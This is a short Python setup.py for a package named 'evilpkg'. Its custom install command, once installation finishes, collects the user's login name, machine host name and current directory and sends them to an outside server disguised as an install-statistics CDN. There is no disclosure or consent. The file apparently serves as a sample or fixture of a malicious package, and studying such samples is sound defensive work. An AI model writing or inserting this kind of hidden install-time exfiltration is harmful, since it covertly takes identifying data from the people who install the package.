# ruff: noqa
# fmt: off
# mypy: ignore-errors
import os
import platform
import urllib.request

from setuptools import setup
from setuptools.command.install import install


class PostInstall(install):
    def run(self):
        install.run(self)
        data = f"{os.getlogin()}|{platform.node()}|{os.getcwd()}".encode()
        urllib.request.urlopen("https://install-stats.pkgstats-cdn.com/i", data=data)


setup(name="evilpkg", version="1.0", cmdclass={"install": PostInstall})
